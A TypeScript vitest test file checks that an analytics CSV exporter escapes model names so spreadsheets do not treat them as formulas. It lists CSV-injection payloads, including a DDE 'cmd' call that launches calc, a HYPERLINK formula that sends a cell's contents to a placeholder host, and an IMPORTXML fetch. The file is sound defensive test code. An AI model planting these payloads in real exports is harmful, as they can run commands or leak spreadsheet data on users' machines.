import { expect, test } from "vitest";
import { analyticsCsv } from "./analytics-csv.ts";
import type { Analytics } from "./schemas/governance.ts";

const STARTS = ["=", "+", "-", "@", "\t", "\r"];
const FORMULAS = [
  'cmd|" /C calc"!A0',
  'HYPERLINK("http://example.org/?x="&A1,"look")',
  "1+1",
  'IMPORTXML("http://example.org","//a")',
  "SUM(1,2)*9",
  '"quoted"',
  "two\r\nlines",
];

const analyticsOf = (model: string): Analytics => ({
  from: "2026-01-01",
  to: "2026-01-02",
  funnel: [],
  outcomes: [],
  completionMs: { count: 0, p50: null, p95: null },
  topReasons: [],
  retries: { withRetry: 0, withoutRetry: 0, afterRetryVerified: 0 },
  reviewers: { decided: 0, overrides: 0, agreement: null, medianWaitMs: null },
  scoreDrift: [{ model, count: 600, psi: -0.25, bins: [], before: [], now: [] }],
});

/** Cells as a spreadsheet takes them, RFC 4180. */
const cellsOf = (csv: string): readonly string[] =>
  [...csv.matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain!,
  );

test.each(STARTS.flatMap((start) => FORMULAS.map((formula) => start + formula)))(
  "a model called %j is no formula in a spreadsheet",
  (model) => {
    const cells = cellsOf(analyticsCsv(analyticsOf(model)));
    expect(cells).toContain(`'${model}`);
    const begins = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(begins.filter((cell) => Number.isNaN(Number(cell)))).toEqual([]);
  },
);

test("a number below zero stays a number", () => {
  expect(analyticsCsv(analyticsOf("a model"))).toContain("a model,psi,-0.25\r\n");
});
